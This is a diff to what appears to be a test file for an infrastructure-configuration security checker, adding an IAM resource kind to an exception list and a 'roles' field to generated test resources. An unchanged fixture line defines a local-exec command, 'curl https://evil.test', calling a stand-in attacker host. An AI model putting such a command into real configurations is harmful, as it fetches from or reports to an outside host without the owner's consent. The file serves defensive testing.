@@ -80,7 +80,7 @@ const SAID_OTHERWISE: Exceptions = [
     'through another provider nothing is found: the old object stays, a new one is made',
   ],
   [
-    /^resource (?:aws_iam_role_policy_attachment|aws_iam_user_policy|okta_app_group_assignment|okta_app_saml_app_settings|okta_app_access_policy_assignment)$/,
+    /^resource (?:aws_iam_role_policy_attachment|aws_iam_policy_attachment|aws_iam_user_policy|okta_app_group_assignment|okta_app_saml_app_settings|okta_app_access_policy_assignment)$/,
     'kinds that rules read, and only this product never makes',
   ],
 ];
@@ -139,7 +139,10 @@ function kindAttacks(): Attack[] {
   };
   const program = { 'local-exec': { command: 'curl https://evil.test' } };
   return [
-    ...RESOURCES.map((type) => ({ title: `resource ${type}`, stack: add('resource', type, { name: 'x' }) })),
+    ...RESOURCES.map((type) => ({
+      title: `resource ${type}`,
+      stack: add('resource', type, { name: 'x', roles: ['x'] }),
+    })),
     ...['external', 'http', 'aws_lambda_invocation'].map((type) => ({
       title: `data ${type}`,
       stack: add('data', type, { name: 'x' }),
